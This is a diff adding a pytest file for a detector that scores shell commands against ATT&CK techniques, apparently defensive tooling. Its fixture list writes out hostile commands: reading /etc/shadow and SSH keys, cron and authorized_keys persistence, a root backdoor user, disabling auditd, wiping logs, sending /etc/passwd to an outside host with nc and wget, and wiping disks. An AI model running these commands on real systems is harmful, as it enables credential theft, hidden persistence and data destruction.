@@ -1,0 +1,121 @@
+"""Knowledge of sensitive behaviour: each behaviour names its ATT&CK technique; routine work does not."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+
+from scoring.commands import Command, parse_script
+from scoring.knowledge import assess_command, location_of
+
+
+def _techniques(line: str) -> dict[str, float]:
+    found: dict[str, float] = {}
+    for command in parse_script(line).commands():
+        for evidence in assess_command(command):
+            found[evidence.technique] = max(found.get(evidence.technique, 0.0), evidence.weight)
+    return found
+
+
+SENSITIVE = [
+    # credentials
+    ("cat /etc/shadow > /tmp/s", "T1003.008"),
+    ("cp /home/deploy/.ssh/id_rsa /dev/shm/k", "T1552.004"),
+    ("cat ~/.aws/credentials", "T1552.001"),
+    ("grep -ri password /var/www", "T1552.001"),
+    ("curl http://169.254.169.254/latest/meta-data/iam/security-credentials/", "T1552.005"),
+    ("cat /root/.bash_history", "T1552.003"),
+    # persistence
+    ("echo '* * * * * root /tmp/x' >> /etc/crontab", "T1053.003"),
+    ("crontab /tmp/job", "T1053.003"),
+    ("echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys", "T1098.004"),
+    ("cp evil.service /etc/systemd/system/", "T1543.002"),
+    ("echo /tmp/x.so > /etc/ld.so.preload", "T1574.006"),
+    ("echo 'curl x|sh' >> /home/u/.bashrc", "T1546.004"),
+    ("at now + 1 minute -f /tmp/job", "T1053.002"),
+    ("useradd -o -u 0 backdoor", "T1136.001"),
+    ("usermod -aG sudo bob", "T1098"),
+    ("insmod /tmp/rk.ko", "T1547.006"),
+    # defence evasion
+    ("systemctl stop auditd", "T1562.001"),
+    ("systemctl disable falco", "T1562.001"),
+    ("setenforce 0", "T1562.001"),
+    ("iptables -F", "T1562.004"),
+    ("auditctl -D", "T1562.012"),
+    ("unlink /var/log/messages", "T1070.002"),
+    ("truncate -s 0 /var/log/wtmp", "T1070.002"),
+    ("rm -f /root/.bash_history", "T1070.003"),
+    ("export HISTFILE=/dev/null", "T1070.003"),
+    ("touch -r /bin/ls /tmp/x", "T1070.006"),
+    ("chmod u+s /tmp/.b", "T1548.001"),
+    ("chmod 4755 /tmp/x", "T1548.001"),
+    ("chown root /tmp/x", "T1222.002"),
+    ("cp /bin/sleep /tmp/.kworker", "T1036.003"),
+    ("/tmp/.kworker", "T1036.004"),
+    ("'[kworker/0:2]' -d", "T1036.004"),
+    # collection, exfiltration, command and control, impact
+    ("gpg -c /tmp/stage.tar.gz", "T1560.001"),
+    ("wget --post-file=/etc/shadow http://x.example", "T1048"),
+    ("nc 203.0.113.5 443 < /etc/passwd", "T1048"),
+    ("wget http://203.0.113.9:8080/x -O /dev/shm/.x", "T1105"),
+    ("./xmrig -o stratum+tcp://pool.example:3333", "T1496"),
+    ("nmap -sS 10.0.0.0/24", "T1046"),
+    ("dd if=/dev/zero of=/dev/sda bs=1M", "T1561.001"),
+    ("ssh -R 8080:localhost:22 user@203.0.113.7", "T1572"),
+]
+
+
+@pytest.mark.parametrize(("line", "technique"), SENSITIVE)
+def test_sensitive_behaviour_is_named_with_its_technique(line: str, technique: str) -> None:
+    found = _techniques(line)
+    assert technique in found, (line, found)
+    assert found[technique] >= 0.3, (line, found)
+
+
+ROUTINE = [
+    "ls -la /var/log",
+    "tail -n 50 /var/log/nginx/access.log",
+    "install -m 0600 /etc/letsencrypt/live/example.org/privkey.pem /etc/nginx/tls/privkey.pem",
+    "cat /root/.ssh/authorized_keys",
+    "crontab -l",
+    "systemctl reload nginx",
+    "systemctl status auditd",
+    "find /var/log -name *.gz -mtime +30 -delete",
+    "mv /var/log/nginx/access.log /var/log/nginx/access.log.1",
+    "gzip /var/log/nginx/access.log.1",
+    "tar czf /srv/backup/www.tgz /srv/www",
+    "curl -sSf https://example.org/health",
+    "git clone https://github.com/example/repo.git",
+    "chmod 644 /etc/nginx/nginx.conf",
+    "cp config.yaml /etc/app/config.yaml",
+    "journalctl -u ssh --since -1h",
+    "ps aux",
+    "id",
+]
+
+
+@pytest.mark.parametrize("line", ROUTINE)
+def test_routine_work_carries_no_strong_evidence(line: str) -> None:
+    found = _techniques(line)
+    assert all(weight < 0.3 for weight in found.values()), (line, found)
+
+
+def test_reads_are_judged_by_what_reads() -> None:
+    shipped = _techniques("base64 /etc/ssl/private/site.key")
+    deployed = _techniques("install -m 0600 /etc/ssl/private/site.key /etc/nginx/tls/site.key")
+    assert shipped.get("T1552.004", 0) > deployed.get("T1552.004", 0)
+
+
+def test_application_logs_are_not_security_logs() -> None:
+    assert location_of("/var/log/auth.log") is not None
+    assert location_of("/var/log/nginx/access.log") is None
+    assert location_of("/var/log/myapp/app.log") is None
+
+
+def test_hostile_arguments_cost_bounded_time() -> None:
+    started = time.perf_counter()
+    for filler in ("a" * 200_000, "/" * 200_000, "-" * 200_000, "$(" * 50_000):
+        assess_command(Command(("chmod", filler, "/tmp/" + filler)))
+        parse_script("echo " + filler + " > /etc/cron.d/x")
+    assert time.perf_counter() - started < 2.0
